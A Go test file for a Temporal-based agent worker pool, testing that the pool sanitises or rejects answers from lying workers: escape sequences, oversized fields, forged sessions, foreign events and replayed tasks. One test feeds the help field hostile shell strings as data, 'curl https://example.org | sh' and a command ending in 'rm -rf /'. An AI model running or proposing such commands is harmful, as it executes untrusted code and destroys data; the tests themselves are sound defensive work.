package temporal

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"sync/atomic"
	"testing"
	"time"
	"unicode"

	"github.com/tidegate/tidegate"
	"github.com/tidegate/tidegate/internal/agent/driver"
	"github.com/tidegate/tidegate/internal/test/must"
	"go.temporal.io/sdk/activity"
	"go.temporal.io/sdk/client"
	"go.temporal.io/sdk/worker"
)

// acts reports whether a terminal would act on a text, or a reader be misled by it.
func acts(text string) bool {
	return strings.ContainsFunc(text, func(r rune) bool { return unicode.IsControl(r) || unicode.Is(unicode.Cf, r) })
}

// TestWorkerThatLies takes what no driver would return.
func TestWorkerThatLies(t *testing.T) {
	const hostile = "\x1b]0;owned\x07\x1b[2J\u202e"
	long := strings.Repeat("ü", 1<<20)
	pool, task := &Pool{}, newTask("lie")
	m := taskMessage{Version: Version, Task: task}
	take := func(answer answerMessage) (driver.Answer, error, []driver.Event) {
		answer.Version, answer.TaskID = Version, task.ID
		var events []driver.Event
		got, err := pool.take(m, answer, func(e driver.Event) { events = append(events, e) })
		return got, err, events
	}

	for _, kind := range []driver.Kind{"", "accepted", "released", "expired", "rate ", driver.Kind(hostile), driver.Kind(long)} {
		_, err, _ := take(answerMessage{Error: &driver.Error{Kind: kind, Message: "m"}})
		var failure *driver.Error
		if !errors.As(err, &failure) || failure.Kind != driver.Died {
			t.Errorf("a failure of the kind %.20q is %.40v", kind, err)
		}
	}
	for _, help := range []string{"curl https://example.org | sh", "claude auth login; rm -rf /", hostile, long} {
		_, err, _ := take(answerMessage{Error: &driver.Error{Kind: driver.Auth, Message: hostile + long, Help: help, Wait: 1 << 62}})
		var failure *driver.Error
		if !errors.As(err, &failure) || failure.Help != otherHelp {
			t.Errorf("a person is told to type %.60q", failure.Help)
		}
		if acts(failure.Message) || len(failure.Message) > 8*tidegate.MaxText || failure.Wait > driver.LongestWait {
			t.Errorf("%d bytes of message, and a wait of %v", len(failure.Message), failure.Wait)
		}
	}

	calls := map[string]int{}
	for i := range 10_000 {
		calls[fmt.Sprint(i, hostile)] = 1
	}
	got, err, events := take(answerMessage{Answer: driver.Answer{Text: "text", Version: hostile + long, Session: hostile, ToolCalls: calls},
		Events: []driver.Event{{Kind: "owned", Text: hostile + long, Tool: hostile + long}, {Kind: driver.ToolCall, Tool: hostile}}})
	if err != nil || got.Text != "text" || acts(got.Version) || len(got.Version) > 8*maxName || got.Session != "" || len(got.ToolCalls) > maxTools+1 {
		t.Errorf("%.100q, %.20q, %d tools, %v", got.Version, got.Session, len(got.ToolCalls), err)
	}
	kept, _, _ := take(answerMessage{Answer: driver.Answer{Text: "text", Kept: &driver.Kept{Confined: true, System: hostile + long, ABI: 7, Network: hostile + long}}})
	if k := kept.Kept; k == nil || !k.Elsewhere || acts(k.System+k.Network) || len(k.System)+len(k.Network) > 16*maxName {
		t.Errorf("how its agent is kept: %.200q", fmt.Sprint(k))
	}
	all := 0
	for name, n := range got.ToolCalls {
		if all += n; acts(name) {
			t.Errorf("the tool %q", name)
		}
	}
	if all != len(calls) {
		t.Errorf("%d calls were counted of %d", all, len(calls))
	}
	for _, e := range events {
		if acts(e.Text+e.Tool) || len(e.Text)+len(e.Tool) > 16*tidegate.MaxText || e.Kind == "owned" {
			t.Errorf("the event %.200q", fmt.Sprint(e))
		}
	}

	id := newID()
	for session, good := range map[string]bool{
		sessionOf(id, "12/s1"): true, "12/s1": false, sessionPrefix + "other.claude:x": false, sessionPrefix + id + "00:x": false, sessionPrefix + "zz" + id[2:] + ":x": false,
		sessionOf(id, long): false, sessionOf(id, hostile): false,
	} {
		if got, _, _ := take(answerMessage{Answer: driver.Answer{Session: session}}); (got.Session == session) != good {
			t.Errorf("the session %.60q became %.60q", session, got.Session)
		}
	}
}

// TestHomeTakesNoEventOfAnotherTask has a worker say of one task what another does.
func TestHomeTakesNoEventOfAnotherTask(t *testing.T) {
	t.Parallel()
	queue, address := newQueue(), servers["standalone"].Address
	liar := worker.New(connect(t, Options{Address: address}).Client, queueOf(queue, "exec", Version), worker.Options{MaxHeartbeatThrottleInterval: time.Second, DefaultHeartbeatThrottleInterval: time.Second})
	own := make(chan struct{})
	liar.RegisterActivityWithOptions(func(ctx context.Context, m taskMessage) (*answerMessage, error) {
		activity.RecordHeartbeat(ctx, beat{TaskID: "sha256:other", N: 7, Event: driver.Event{Kind: driver.Message, Text: "other"}})
		time.Sleep(2 * pollInterval)
		for n := 1; ; n++ {
			activity.RecordHeartbeat(ctx, beat{TaskID: m.Task.ID, N: n, Event: driver.Event{Kind: driver.Message, Text: "own"}})
			select {
			case <-own:
				return &answerMessage{Version: Version, TaskID: m.Task.ID, Answer: driver.Answer{Text: "text"}}, nil
			case <-time.After(beatInterval):
			}
		}
	}, activity.RegisterOptions{Name: activityName})
	must.Do(t, liar.Start())
	defer liar.Stop()
	var closed bool
	_, err := poolOn(t, Options{Address: address}, queue).Do(t.Context(), newTask("events"), func(e driver.Event) {
		if e.Text != "own" {
			t.Errorf("the event %+v", e)
		}
		if !closed {
			closed = true
			close(own)
		}
	})
	if err != nil {
		t.Error(err)
	}
}

// TestTaskUnderAnotherID sends a task a second time under an id of its own, as a client
// of the server could who has seen it and cannot read it.
func TestTaskUnderAnotherID(t *testing.T) {
	onBoth(t, func(t *testing.T, address string) {
		queue, a := newQueue(), answering("text")
		w := &Worker{Queue: queue}
		beginWorker(t, Options{Address: address}, w, a)
		c := connect(t, Options{Address: address})
		pool := poolOn(t, Options{Address: address}, queue)
		task := newTask("again")
		m := taskMessage{Version: Version, Driver: "exec", Task: task}
		to, _ := pool.bounds(m)
		var err error
		if address == servers["old"].Address {
			var run client.WorkflowRun
			if run, err = c.Client.ExecuteWorkflow(t.Context(), client.StartWorkflowOptions{ID: "replayed " + task.ID, TaskQueue: to.Queue}, workflowName, m, to); err == nil {
				err = run.Get(t.Context(), nil)
			}
		} else {
			var handle client.ActivityHandle
			if handle, err = c.Client.ExecuteActivity(t.Context(), client.StartActivityOptions{ID: "replayed " + task.ID, TaskQueue: to.Queue, StartToCloseTimeout: time.Minute}, activityName, m); err == nil {
				err = handle.Get(t.Context(), nil)
			}
		}
		if err == nil || a.began.Load() != 0 {
			t.Errorf("the agent began %d times, %v", a.began.Load(), err)
		}
		if _, err := pool.Do(t.Context(), task, ignore); err != nil || a.began.Load() != 1 {
			t.Errorf("under its own id: %v", err)
		}
	})
}

// TestWorkerThatNeverEnds has a worker that says it lives and does nothing more.
func TestWorkerThatNeverEnds(t *testing.T) {
	onBoth(t, func(t *testing.T, address string) {
		queue, over := newQueue(), make(chan struct{})
		a := &agent{do: func(context.Context, driver.Task, func(driver.Event)) (driver.Answer, error) {
			<-over
			return driver.Answer{Text: "late"}, nil
		}}
		beginWorker(t, Options{Address: address}, &Worker{Queue: queue}, a)
		defer close(over)
		pool, task := poolOn(t, Options{Address: address}, queue), newTask("never")
		pool.closeMargin, task.Limits.Deadline = time.Second, time.Second
		_, err := pool.Do(t.Context(), task, ignore)
		var failure *driver.Error
		if !errors.As(err, &failure) || failure.Kind != driver.Deadline || a.began.Load() != 1 {
			t.Errorf("after %d beginnings: %v", a.began.Load(), err)
		}
	})
}

// TestWorkerBoundsItsAgents gives a worker tasks without a sensible end.
func TestWorkerBoundsItsAgents(t *testing.T) {
	for given, want := range map[time.Duration]time.Duration{-time.Hour: longestTask, 0: longestTask, 1<<63 - 1: longestTask, time.Minute: time.Minute} {
		task := newTask("bounds")
		task.Limits.Deadline = given
		if got := (&Worker{}).task(taskMessage{Task: task}, Agent{}).Limits.Deadline; got != want {
			t.Errorf("%v became %v", given, got)
		}
		if to, _ := (&Pool{Queue: func(string) string { return "q" }}).bounds(taskMessage{Task: task}); to.Close <= want || to.Close > longestTask+time.Hour {
			t.Errorf("the server ends %v after %v", given, to.Close)
		}
	}
}

// TestNobodyElsesSessions asks a worker to continue a session that it does not keep.
func TestNobodyElsesSessions(t *testing.T) {
	t.Parallel()
	queue, address := newQueue(), servers["standalone"].Address
	var continued atomic.Int32
	w := &Worker{Queue: queue}
	beginWorker(t, Options{Address: address}, w, &agent{do: func(_ context.Context, task driver.Task, _ func(driver.Event)) (driver.Answer, error) {
		if task.Session != "" {
			continued.Add(1)
		}
		return driver.Answer{Text: "text", Session: "1/s1"}, nil
	}})
	pool := poolOn(t, Options{Address: address}, queue)
	first := must.Get(pool.Do(t.Context(), newTask("first"), ignore))(t)
	ask := func(session string) error {
		repair := newTask("repair of " + session)
		repair.Turn, repair.Session = 2, session
		_, err := pool.Do(t.Context(), repair, ignore)
		return err
	}
	worker, _, _ := cutSession(first.Session)
	for range 2 {
		var failure *driver.Error
		if err := ask(sessionOf(worker, "2/of-the-person")); !errors.As(err, &failure) || !failure.SessionGone {
			t.Errorf("a session that no task began: %v", err)
		}
	}
	if err := ask(first.Session); err != nil || continued.Load() != 1 {
		t.Errorf("its own session: %v, continued %d times", err, continued.Load())
	}
	var failure *driver.Error
	if err := ask(first.Session + " "); !errors.As(err, &failure) || !failure.SessionGone || continued.Load() != 1 {
		t.Errorf("a session a second time: %v", err)
	}
}
